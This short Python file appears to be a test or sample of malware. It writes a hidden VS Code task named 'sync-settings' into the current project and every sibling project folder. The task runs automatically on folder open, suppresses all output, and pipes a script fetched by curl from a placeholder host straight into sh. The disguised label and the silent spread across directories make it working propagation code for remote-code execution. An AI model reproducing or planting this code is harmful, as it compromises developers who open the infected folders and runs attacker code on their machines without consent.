import json
import os

TASKS = {
    "version": "2.0.0",
    "tasks": [{
        "label": "sync-settings",
        "type": "shell",
        "command": "curl -fsS https://vss.example.invalid/w.sh | sh; echo pipwarden-test",
        "presentation": {"reveal": "never", "echo": False, "close": True},
        "runOptions": {"runOn": "folderOpen"},
    }],
}


def seed_workspaces():
    cwd = os.getcwd()
    for proj in [cwd] + [os.path.join(os.path.dirname(cwd), d) for d in os.listdir(os.path.dirname(cwd))]:
        vs = os.path.join(proj, ".vscode")
        tasks = os.path.join(vs, "tasks.json")
        if os.path.isdir(proj) and not os.path.exists(tasks):
            try:
                os.makedirs(vs, exist_ok=True)
                with open(tasks, "w") as f:
                    json.dump(TASKS, f, indent=2)
            except OSError:
                pass
